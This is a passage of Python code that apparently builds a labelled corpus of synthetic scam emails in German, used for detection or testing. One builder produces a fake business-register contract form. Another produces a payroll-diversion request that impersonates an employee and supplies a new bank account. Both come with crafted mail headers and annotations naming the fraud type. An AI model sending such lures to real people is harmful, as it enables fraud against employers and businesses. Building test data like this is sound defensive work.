                          "Mit der Unterzeichnung und Rücksendung dieses Formulars beauftragt der Unterzeichnende die ZGUR Datenservice Ltd. mit der Eintragung und Veröffentlichung der oben genannten Daten im Online-Verzeichnis www.zgur-register.de für die Dauer von drei Jahren zu einem jährlichen Preis von 1.189,00 EUR zzgl. gesetzlicher Umsatzsteuer, zahlbar jährlich im Voraus. Der Vertrag verlängert sich um jeweils ein weiteres Jahr, wenn er nicht drei Monate vor Ablauf schriftlich gekündigt wird. Es gelten die AGB der ZGUR Datenservice Ltd., einsehbar unter www.zgur-register.de/agb. Das ZGUR ist ein privates Verzeichnis und steht in keiner Verbindung zu amtlichen Registern."],
                    closing=["Rücksendung per Fax: +49 30 5557 9129 oder E-Mail: eintragung@zgur-register.de"],
                    footer=[["ZGUR Datenservice Ltd.", "Zweigniederlassung Berlin"], ["Registered office: 27 Old Gloucester Street", "London WC1N 3AX"]])
    pdfb = d.render()
    alt = kit.alt("=_" + infra.rhex(r, 32), text, html, "utf-8", "quoted-printable", ct_style="quoted")
    att = mime.attachment(pdfb, "application/pdf", "Korrekturabzug_%s.pdf" % reg, style="plain")
    root = kit.mixed("=_" + infra.rhex(r, 32), [alt, att])
    mid = "<%s@smtp-relay.mailin.fr>" % guid_like(r)
    ch = [hdr("From", frm), hdr("To", mime.addr("Birgit Niemann", bn[1])), hdr("Subject", subj),
          hdr("Date", rfcdate(t, "UTC", "plain")), hdr("Message-Id", mid),
          hdr("List-Unsubscribe", "<https://zgur-register.de/abmelden?r=%s>" % reg),
          hdr("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), hdr("MIME-Version", "1.0"), ("__CONTENT__", None),
          hdr("Origin-messageId", "<%s@smtp-relay.mailin.fr>" % guid_like(r))]
    s = senders.brevo(r, t, ch, frm, dom)
    senders.fix_rcpt(s, bn[1])
    H, _, _ = infra.deliver(r, s, bn[1], dmarc=("pass", "none", dom))
    return spec(H, root,
                "Request to 'check and return' the company's entry in a 'central trade and company register' (PDF correction form).",
                "Register/directory scam: official-sounding private directory, signature on the form is a 3-year contract at 1,189 EUR/year in the small print; sent in bulk via Brevo from a fresh domain.",
                phones=["+49 30 5557 9120", "+49 30 5557 9129"])


def guid_like(r):
    return infra.guid(r)


# ------------------------------------------------------------------ 08 ----
@msg("attack", "08", "de", "lohn-kontoaenderung-gmx")
def a08(c):
    r = c.rng
    t = T(2026, 11, 19, 21, 37, 14)
    sl = P("stefanie.luebbe")
    new_iban = ids.gen_iban(r, "DE", bank="10011001")
    frm = mime.addr("Jörg Wienken", "j.wienken76@gmx.de", "utf-8", "Q")
    subj = mime.hdr_text("Änderung Bankverbindung für Lohn", "utf-8", "Q")
    text = """Hallo Frau Lübbe,

ich habe meine Bank gewechselt, weil die Volksbank die Kontoführungsgebühren schon wieder erhöht hat. Könnten Sie bitte meinen Lohn ab der Abrechnung für November auf mein neues Konto überweisen?

Kontoinhaber: Jörg Wienken
IBAN: %s
BIC: NTSBDEB1XXX (N26)

Das alte Konto wird Ende des Monats aufgelöst. Ich bin diese Woche durchgehend auf Spätschicht und schaffe es tagsüber nicht ins Büro, deshalb schreibe ich Ihnen von meiner privaten Adresse. Eine kurze Bestätigung wäre nett.

Vielen Dank und viele Grüße
Jörg Wienken
Zerlegung, Schicht B
""" % ids.fmt_iban(new_iban)
    root = mime.text(text, "plain", "utf-8", "quoted-printable", csname="UTF-8", ct_style="bare")
    mid = "<trinity-%s-%d@3c-app-gmx-bap%02d>" % (infra.guid(r), infra.epoch(t) * 1000 + r.randint(0, 999), r.randint(1, 70))
    ch = [hdr("MIME-Version", "1.0"), hdr("Message-ID", mid),
          hdr("From", frm), hdr("To", mime.addr("Stefanie Lübbe", sl[1], "utf-8", "Q")),
          hdr("Subject", subj), ("__CONTENT__", None),
          hdr("Date", rfcdate(t, "CET", "plain")), hdr("Importance", "normal"), hdr("Sensitivity", "Normal")]
    ip = "176.%d.%d.%d" % (r.randint(0, 7), r.randint(0, 255), r.randint(1, 254))
    s = senders.united(r, t, ch, frm, "gmx", ip)
    H, _, _ = infra.deliver(r, s, sl[1], dmarc=("pass", "quarantine", "gmx.de"))
    return spec(H, root,
                "A cutting-plant shift supervisor asks payroll, from his private GMX address, to pay his salary to a new N26 account.",
                "Payroll diversion: impersonates a real employee (Jörg Wienken) from an unknown free-mail address, neobank account, excuse for not coming in person, asks for confirmation; genuine change with a signed form is business/08.",
                ibans=[new_iban], iban_notes={new_iban: "attacker"})
